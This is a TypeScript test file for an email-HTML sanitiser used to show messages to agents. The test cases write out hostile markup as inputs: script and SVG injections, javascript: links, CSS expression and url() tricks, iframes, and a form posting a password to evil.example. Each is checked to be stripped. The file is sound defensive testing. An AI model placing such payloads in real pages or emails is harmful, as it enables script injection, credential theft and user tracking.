// The sanitising rules of an email's HTML body as agents see it: hostile markup loses everything that
// could run, post or fetch; the email's own cid: images are shown; remote images are counted and dropped.
import { readFileSync } from 'fs';
import * as path from 'path';
import { cidReferences, emailHtmlDocument, MAX_INLINE_IMAGE_BYTES, MAX_SHOWN_HTML_CHARS } from '../../src/web/email-html';
import { parseEmail } from '../../src/mail/parse-email';

const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAADElEQVR4nGP4z8AAAAMBAQDJ/pLvAAAAAElFTkSuQmCC', 'base64');
const logo = { contentId: 'logo@example.net', contentType: 'image/png', content: PNG };
const render = (html: string, images = [logo]) => emailHtmlDocument(html, images);
const body = (html: string, images = [logo]) => render(html, images).document.split('<body>')[1];

describe('hostile markup', () => {
  test.each([
    ['a script element', '<p>hi</p><script>window.marker = 1</script>', /<script|marker/i],
    ['an event handler', '<img src="cid:logo@example.net" onerror="window.marker=1"><p onclick="x()">hi</p>', /onerror|onclick|marker/i],
    ['a javascript: link', '<a href="javascript:window.marker=1">log</a><a href=" JaVaScRiPt:alert(1)">x</a>', /javascript:/i],
    ['a vbscript: and a data: link', '<a href="vbscript:msgbox(1)">a</a><a href="data:text/html,<script>alert(1)</script>">b</a>', /vbscript:|data:text/i],
    ['a CSS expression', '<p style="width: expression(alert(1)); color: green">hi</p>', /expression|style=/i],
    ['a CSS url() in an attribute', '<td style="background-image: url(http://evil.example/bg.png)">x</td>', /evil\.example|style=/i],
    ['a CSS escape hiding url()', '<p style="background: u\\72 l(http://evil.example/a.png)">x</p>', /evil\.example/i],
    ['@import in a style element', '<style>@import "http://evil.example/a.css"; p { color: red }</style><p>x</p>', /evil\.example|@import/i],
    ['a nested iframe', '<iframe src="http://evil.example/frame.html"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>', /<iframe|evil\.example|srcdoc/i],
    ['a form', '<form action="http://evil.example/steal"><input name="password"><button formaction="http://evil.example/">go</button></form>', /<form|<input|<button|evil\.example/i],
    ['object and embed', '<object data="http://evil.example/x.swf"></object><embed src="http://evil.example/x.swf">', /<object|<embed|evil\.example/i],
    ['SVG with a script', '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>', /<svg|<script|javascript:/i],
    ['meta refresh and base', '<meta http-equiv="refresh" content="0;url=http://evil.example/"><base href="http://evil.example/"><p>x</p>', /<meta|<base|evil\.example/i],
    ['background and srcset attributes', '<table background="http://evil.example/bg.png"><tr><td>x</td></tr></table><img srcset="http://evil.example/a.png 1x">', /evil\.example|background=|srcset/i],
    ['media that would fetch', '<video poster="http://evil.example/p.png" src="http://evil.example/v.mp4"></video><audio src="http://evil.example/a.mp3"></audio>', /evil\.example|<video|<audio/i],
    ['a relative image (it would hit our own origin)', '<img src="/admin/incidents">', /admin\/incidents/],
  ])('%s does not survive', (_name, dirty, forbidden) => {
    const out = body(dirty);
    expect(out).not.toMatch(forbidden);
  });

  test('a remote image is dropped and counted, and the document says so', () => {
    const view = render('<p>Hello</p><img alt="pixel" src="https://tracker.example/p.gif?u=1"><img src="//tracker.example/q.gif">');
    expect(view.document).not.toContain('tracker.example');
    expect(view.remoteImagesBlocked).toBe(2);
    expect(view.document).toContain('2 remote images blocked');
    expect(view.document).toContain('alt="pixel"'); // the image element stays, without its source
  });

  test('the text and safe markup of the email survive', () => {
    const out = body('<h1>VPN problem</h1><p>my <b>VPN</b> drops &amp; reconnects</p><ul><li>T14</li></ul><table><tr><td style="color: red">cell</td></tr></table>');
    expect(out).toContain('<h1>VPN problem</h1>');
    expect(out).toContain('<b>VPN</b> drops &amp; reconnects');
    expect(out).toContain('<li>T14</li>');
    expect(out).toContain('style="color: red"');
  });

  test('a web link keeps its address, shown as its title, and no target or referrer', () => {
    const out = body('<a href="https://status.example.net/vpn" target="_top">status</a>');
    expect(out).toContain('href="https://status.example.net/vpn"');
    expect(out).toContain('title="https://status.example.net/vpn"');
    expect(out).toContain('rel="noopener noreferrer"');
    expect(out).not.toContain('target=');
  });

  test('style elements of the head are kept when harmless, emptied when they could fetch', () => {
    expect(render('<html><head><style>p.lead { color: navy }</style></head><body><p class="lead">x</p></body></html>').document).toContain('p.lead { color: navy }');
    const hostile = render('<html><head><style>.x { background: url(http://evil.example/a.png) }</style></head><body>x</body></html>').document;
    expect(hostile).not.toContain('evil.example');
  });
});

describe('cid: images', () => {
  test('a cid: image of the email is shown as a data: URL (the Content-ID compared without case, percent-decoded)', () => {
    const view = render('<img alt="logo" src="cid:LOGO%40example.net">');
    expect(view.inlineImagesShown).toBe(1);
    expect(view.document).toContain(`src="data:image/png;base64,${PNG.toString('base64')}"`);
    expect(view.remoteImagesBlocked).toBe(0);
  });

  test('a cid: naming no part of the email, an SVG part or one too big shows no image', () => {
    const svg = { contentId: 'drawing@x', contentType: 'image/svg+xml', content: Buffer.from('<svg onload="alert(1)"/>') };
    const huge = { contentId: 'huge@x', contentType: 'image/png', content: Buffer.alloc(MAX_INLINE_IMAGE_BYTES + 1) };
    const view = render('<img src="cid:missing@x"><img src="cid:drawing@x"><img src="cid:huge@x">', [svg, huge]);
    expect(view.inlineImagesShown).toBe(0);
    expect(view.document).not.toMatch(/src=|svg/i);
  });

  test('an image the email carries as a data: URL is kept only when it is a picture', () => {
    const out = body(`<img src="data:image/png;base64,${PNG.toString('base64')}"><img src="data:image/svg+xml;base64,PHN2Zz4=">`);
    expect(out).toContain('data:image/png;base64');
    expect(out).not.toContain('svg+xml');
  });

  test('cidReferences lists the Content-IDs the HTML names, once each, lower-cased', () => {
    expect(cidReferences('<img src="cid:A@x"><img src="CID:a@x"><td background="cid:b%40y">')).toEqual(['a@x', 'b@y']);
  });

  test('the fixture with hostile HTML: its cid: image resolves from its own part', async () => {
    const mail = await parseEmail(readFileSync(path.resolve(__dirname, '../fixtures/hostile-html.eml')));
    const images = mail.parsed.attachments.map((a, i) => ({ contentId: mail.attachmentContentIds[i] ?? '', contentType: a.contentType, content: mail.attachmentContents[i] }));
    const view = emailHtmlDocument(mail.bodies.html!, images);
    expect(view.inlineImagesShown).toBe(1);
    expect(view.remoteImagesBlocked).toBe(1);
    expect(view.document).not.toMatch(/<script|onerror|javascript:|expression|remote-images\.invalid|<iframe|<form|<input/i);
    expect(view.document).toContain('The printer on floor 3 shows the error below.');
  });
});

describe('bounds', () => {
  test('a body longer than the limit is cut and says so', () => {
    const view = render(`<p>${'a'.repeat(MAX_SHOWN_HTML_CHARS + 10)}</p>`);
    expect(view.shortened).toBe(true);
    expect(view.document).toContain('shown shortened');
  });

  test('markup nested too deep is shown as escaped text, quickly', () => {
    const started = Date.now();
    const view = render(`${'<div>'.repeat(5000)}deep <script>x</script>${'</div>'.repeat(5000)}`);
    expect(Date.now() - started).toBeLessThan(5000);
    expect(view.shortened).toBe(true);
    expect(view.document).toContain('<pre>');
    expect(view.document).not.toContain('<script');
    expect(view.document).toContain('deep');
  });
});
